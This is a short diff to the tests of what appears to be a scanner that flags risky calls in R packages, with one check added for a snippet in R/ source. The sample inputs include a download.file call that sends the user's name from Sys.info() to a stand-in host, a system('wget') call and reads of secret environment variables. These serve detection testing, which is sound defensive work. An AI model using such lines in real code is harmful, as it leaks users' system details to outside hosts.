@@ -54,6 +54,7 @@ test("tests may ask about their machine or connect, but not both", async () => {
   expect(await signalsIn("tests/a.R", both)).toContain("warning secret-environment Sys.getenv() 1");
   const info = 'download.file(paste0("https://a.example/?", Sys.info()[["user"]]), b)\n';
   expect(await signalsIn("tests/a.R", info)).toContain("warning environment Sys.info 1");
+  expect(await signalsIn("R/a.R", `f <- function(b) ${info}`)).toContain("notice environment Sys.info 1");
   expect(await signalsIn("tests/a.R", "x <- Sys.info()\n")).toEqual(["notice environment Sys.info 1"]);
   expect(await signalsIn("tests/a.R", 'system("wget x")\nsystem("make")\n')).toEqual([
     "warning process system 1",
